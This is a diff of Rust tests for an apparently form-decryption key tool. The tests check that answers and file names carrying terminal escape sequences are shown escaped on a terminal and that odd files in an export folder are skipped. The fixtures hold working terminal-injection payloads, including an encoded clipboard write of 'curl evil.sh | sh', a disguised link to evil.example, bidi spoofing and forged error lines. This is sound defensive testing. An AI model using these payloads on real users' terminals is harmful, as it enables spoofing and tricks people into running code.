@@ -654,3 +654,369 @@ fn terminal_prompts_ask_twice_and_refuse_mismatches() {
         "{shown}"
     );
 }
+
+/// Answers that attack the terminal they are shown on, with how a CSV export and a JSON export
+/// show them there: (field name, answer, in CSV, in JSON).
+const TERMINAL_ATTACKS: [(&str, &str, &str, &str); 8] = [
+    (
+        "clipboard",
+        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+        "\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}",
+        "\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007",
+    ),
+    (
+        "link",
+        "\x1b]8;;https://evil.example/\x1b\\read the letter\x1b]8;;\x1b\\",
+        "\\u{1b}]8;;https://evil.example/\\u{1b}\\read the letter\\u{1b}]8;;\\u{1b}\\",
+        "\\u001b]8;;https://evil.example/\\u001b\\\\read the letter\\u001b]8;;\\u001b\\\\",
+    ),
+    (
+        "clear",
+        "\x1b[2J\x1b[Hall clear",
+        "\\u{1b}[2J\\u{1b}[Hall clear",
+        "\\u001b[2J\\u001b[Hall clear",
+    ),
+    (
+        "hidden",
+        "I support\x1b[8m nothing\x1b[0m",
+        "I support\\u{1b}[8m nothing\\u{1b}[0m",
+        "I support\\u001b[8m nothing\\u001b[0m",
+    ),
+    (
+        "overwrite",
+        "I withdraw\rI sign    ",
+        "I withdraw\\u{d}I sign    ",
+        "I withdraw\\rI sign    ",
+    ),
+    (
+        "c1",
+        "\u{9b}2J\u{9d}0;title\u{9c}",
+        "\\u{9b}2J\\u{9d}0;title\\u{9c}",
+        "\\u009b2J\\u009d0;title\\u009c",
+    ),
+    (
+        "bidi",
+        "\u{202e}gnp.exe\u{202c} \u{2067}x\u{2069}",
+        "\\u{202e}gnp.exe\\u{202c} \\u{2067}x\\u{2069}",
+        "\\u202egnp.exe\\u202c \\u2067x\\u2069",
+    ),
+    ("bell\x07", "\x07\x07", "\\u{7}\\u{7}", "\\u0007\\u0007"),
+];
+
+/// A record whose every answer attacks the terminal, named `<ID_A>.age`, sealed to KEY_1.
+fn with_terminal_attacks(dir: &Path) {
+    let record = submission(
+        "open-letter",
+        "en",
+        "2026-11-28",
+        TERMINAL_ATTACKS
+            .iter()
+            .map(|(name, answer, _, _)| (*name, text(answer)))
+            .collect(),
+    );
+    write(&dir.join(format!("{ID_A}.age")), seal_to(&record, PUBLIC_1));
+}
+
+/// What a terminal showed holds no character that it would act on instead of showing: no ESC,
+/// BEL or other C0 control but the line ends, no C1 control, no bidirectional or invisible
+/// character; and a carriage return only as part of a line end (the terminal turns each line
+/// feed into CR LF).
+fn assert_nothing_acts_on_the_terminal(shown: &str) {
+    let mut lines = shown.to_owned();
+    while lines.contains("\r\n") {
+        lines = lines.replace("\r\n", "\n");
+    }
+    let acting: Vec<char> = lines
+        .chars()
+        .filter(|&c| c != '\n' && sealform_keytool::escape::is_unsafe(c))
+        .collect();
+    assert!(
+        acting.is_empty(),
+        "{acting:?} reached the terminal:\n{shown}"
+    );
+    assert!(
+        !shown.contains('\u{fffd}'),
+        "bytes that are not UTF-8: {shown}"
+    );
+}
+
+/// The real binary on a real terminal (a pseudo-terminal made by util-linux `script`): answers
+/// and file names that would take over the terminal are shown escaped, in every format.
+#[test]
+fn decrypt_on_a_terminal_shows_control_characters_escaped() {
+    let dir = tmp();
+    with_key_1(dir.path());
+    let export = dir.path().join("export");
+    fs::create_dir(&export).unwrap();
+    with_terminal_attacks(&export);
+    write(
+        &export.join("\x1b]52;c;ZXZpbA==\x07\x1b[2J.age"),
+        "not a record",
+    );
+
+    for format in ["csv", "json", "jsonl"] {
+        let args = ["decrypt", "-i", "key1.txt", "--format", format, "export"];
+        let Some((code, shown)) = run_on_terminal(dir.path(), &args, "") else {
+            return;
+        };
+        assert_eq!(code, 1, "{shown}");
+        assert_nothing_acts_on_the_terminal(&shown);
+        for (name, _, in_csv, in_json) in TERMINAL_ATTACKS {
+            let expected = if format == "csv" { in_csv } else { in_json };
+            assert!(shown.contains(expected), "{format}: {expected}\n{shown}");
+            if format == "csv" {
+                let name = name.replace('\x07', "\\u{7}");
+                assert!(shown.contains(&name), "{format}: {name}\n{shown}");
+            }
+        }
+        assert!(
+            shown.contains(
+                "error: could not open export/\\u{1b}]52;c;ZXZpbA==\\u{7}\\u{1b}[2J.age: this is not an age file"
+            ),
+            "{format}: {shown}"
+        );
+    }
+}
+
+/// To a pipe (or a file), the export keeps the exact answers: CSV quotes them, JSON escapes them
+/// the way JSON does, and both read back exactly what was typed.
+#[test]
+fn decrypt_to_a_pipe_keeps_the_exact_answers() {
+    let dir = tmp();
+    with_key_1(dir.path());
+    with_terminal_attacks(dir.path());
+    let record = format!("{ID_A}.age");
+    let decrypt = |format: &str| {
+        let out = run(
+            dir.path(),
+            &mut keytool(
+                dir.path(),
+                &["decrypt", "-i", "key1.txt", "--format", format, &record],
+            ),
+        );
+        assert_eq!((out.code, out.stderr.as_str()), (0, ""));
+        out.stdout
+    };
+
+    let csv = decrypt("csv");
+    assert!(csv.contains("\x1b]52;c;"), "the exact bytes: {csv:?}");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    for (index, (name, answer, _, _)) in TERMINAL_ATTACKS.iter().enumerate() {
+        assert_eq!(&headers[index + 4], *name);
+        assert_eq!(&row[index + 4], *answer);
+    }
+
+    for format in ["json", "jsonl"] {
+        let json = decrypt(format);
+        assert_nothing_acts_on_the_terminal(&json);
+        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+        let fields = if format == "json" {
+            &parsed[0]["fields"]
+        } else {
+            &parsed["fields"]
+        };
+        for (name, answer, _, _) in TERMINAL_ATTACKS {
+            assert_eq!(fields[name], answer, "{format}: {name}");
+        }
+    }
+}
+
+/// File names come from whoever made the folder: every error line shows them escaped, on one
+/// line, whether or not standard error is a terminal.
+#[cfg(unix)]
+#[test]
+fn decrypt_shows_hostile_file_names_escaped_in_error_lines() {
+    let dir = tmp();
+    with_key_1(dir.path());
+    let export = dir.path().join("export");
+    fs::create_dir(&export).unwrap();
+    with_records_a_b(&export);
+    fs::remove_file(export.join(format!("{ID_B}.age"))).unwrap();
+    write(&export.join("\x1b]52;c;ZXZpbA==\x07.age"), "not a record");
+    write(
+        &export.join("forged\nerror: every record was exported.age"),
+        "not a record",
+    );
+    std::os::unix::fs::symlink(
+        format!("{ID_A}.age"),
+        export.join("\x1b[2J\u{202e}\u{9b}8m.age"),
+    )
+    .unwrap();
+
+    let out = run(
+        dir.path(),
+        &mut keytool(
+            dir.path(),
+            &["decrypt", "-i", "key1.txt", "--format", "jsonl", "export"],
+        ),
+    );
+    assert_eq!(
+        out,
+        Run {
+            code: 1,
+            stdout: format!("{JSON_A}\n"),
+            stderr: "error: skipped export/\\u{1b}[2J\\u{202e}\\u{9b}8m.age: it is a symbolic link, not a regular file\n\
+                     the key tool does not follow links, which can lead anywhere: if you trust what it points to, put a copy in its place\n\
+                     error: could not open export/\\u{1b}]52;c;ZXZpbA==\\u{7}.age: this is not an age file, or its header is damaged\n\
+                     error: could not open export/forged\\u{a}error: every record was exported.age: this is not an age file, or its header is damaged\n\
+                     error: exported 1 of 3 records; see the 3 errors above\n"
+                .into(),
+        }
+    );
+}
+
+/// An export folder that attacks the key tool: an index linked to /dev/zero (endless), a FIFO
+/// (blocks its reader), a link to a record outside the folder, a file larger than any record,
+/// a socket and a folder named like records. Only the one good record is exported; each of the
+/// others is reported; the run ends quickly, with exit code 1.
+#[cfg(unix)]
+#[test]
+fn decrypt_reads_only_regular_files_of_bounded_size_and_never_hangs() {
+    use std::os::unix::fs::symlink;
+    const LIMIT: std::time::Duration = std::time::Duration::from_secs(60);
+
+    let dir = tmp();
+    with_key_1(dir.path());
+    let outside = dir.path().join("outside");
+    fs::create_dir(&outside).unwrap();
+    with_records_a_b(&outside);
+    let export = dir.path().join("export");
+    fs::create_dir(&export).unwrap();
+    fs::rename(
+        outside.join(format!("{ID_A}.age")),
+        export.join(format!("{ID_A}.age")),
+    )
+    .unwrap();
+    symlink("/dev/zero", export.join("index.tsv")).unwrap();
+    let fifo = export.join("x.age");
+    assert!(
+        std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap()
+            .success()
+    );
+    symlink(format!("../outside/{ID_B}.age"), export.join("y.age")).unwrap();
+    // Sparse: larger than any record, yet taking no room on disk.
+    fs::File::create(export.join("z.age"))
+        .unwrap()
+        .set_len(5 * 1024 * 1024)
+        .unwrap();
+    let _socket = std::os::unix::net::UnixListener::bind(export.join("s.age")).unwrap();
+    fs::create_dir(export.join("w.age")).unwrap();
+
+    const LINK: &str = "it is a symbolic link, not a regular file\n\
+        the key tool does not follow links, which can lead anywhere: if you trust what it points to, put a copy in its place\n";
+    const ODD: &str = "an export from the server holds only regular files: find out what put it there before trusting the folder\n";
+    const TOO_LARGE: &str = "it is larger than 4 MiB, far more than any record sealform writes\n\
+        it was left unread: check where the folder came from\n";
+
+    let folder = run_bounded(
+        dir.path(),
+        &["decrypt", "-i", "key1.txt", "--format", "jsonl", "export"],
+        LIMIT,
+    );
+    assert_eq!(
+        folder,
+        Run {
+            code: 1,
+            stdout: format!("{JSON_A}\n"),
+            stderr: format!(
+                "error: skipped export/s.age: it is a socket, not a regular file\n{ODD}\
+                 error: skipped export/w.age: it is a folder, not a regular file\n\
+                 folders inside a folder are not searched: if it holds records, pass it as an input of its own\n\
+                 error: skipped export/x.age: it is a FIFO (named pipe), not a regular file\n{ODD}\
+                 error: skipped export/y.age: {LINK}\
+                 error: skipped export/index.tsv: {LINK}\
+                 error: skipped export/z.age: {TOO_LARGE}\
+                 error: exported 1 of 2 records; see the 6 errors above\n"
+            ),
+        }
+    );
+
+    // The same files named one by one, as `export/*.age` in a shell names them.
+    let good = format!("export/{ID_A}.age");
+    let named = run_bounded(
+        dir.path(),
+        &[
+            "decrypt",
+            "-i",
+            "key1.txt",
+            "--format",
+            "jsonl",
+            "export/x.age",
+            "export/y.age",
+            "export/z.age",
+            &good,
+        ],
+        LIMIT,
+    );
+    assert_eq!(
+        named,
+        Run {
+            code: 1,
+            stdout: format!("{JSON_A}\n"),
+            stderr: format!(
+                "error: skipped export/x.age: it is a FIFO (named pipe), not a regular file\n{ODD}\
+                 error: skipped export/y.age: {LINK}\
+                 error: skipped export/z.age: {TOO_LARGE}\
+                 error: exported 1 of 2 records; see the 3 errors above\n"
+            ),
+        }
+    );
+
+    // An index that is a FIFO, or larger than any index, is reported; the records still open.
+    for (index, problem) in [
+        (
+            "fifo",
+            format!("it is a FIFO (named pipe), not a regular file\n{ODD}"),
+        ),
+        (
+            "large",
+            "it is larger than 64 MiB, far more than any export index sealform writes\n\
+             it was left unread: check where the folder came from\n"
+                .to_owned(),
+        ),
+    ] {
+        let folder = dir.path().join(index);
+        fs::create_dir(&folder).unwrap();
+        fs::copy(
+            export.join(format!("{ID_A}.age")),
+            folder.join(format!("{ID_A}.age")),
+        )
+        .unwrap();
+        let index_path = folder.join("index.tsv");
+        if index == "fifo" {
+            assert!(
+                std::process::Command::new("mkfifo")
+                    .arg(&index_path)
+                    .status()
+                    .unwrap()
+                    .success()
+            );
+        } else {
+            fs::File::create(&index_path)
+                .unwrap()
+                .set_len(64 * 1024 * 1024 + 1)
+                .unwrap();
+        }
+        let out = run_bounded(
+            dir.path(),
+            &["decrypt", "-i", "key1.txt", "--format", "jsonl", index],
+            LIMIT,
+        );
+        assert_eq!(
+            out,
+            Run {
+                code: 1,
+                stdout: format!("{JSON_A}\n"),
+                stderr: format!(
+                    "error: skipped {index}/index.tsv: {problem}\
+                     error: exported 1 of 1 records; see the error above\n"
+                ),
+            }
+        );
+    }
+}
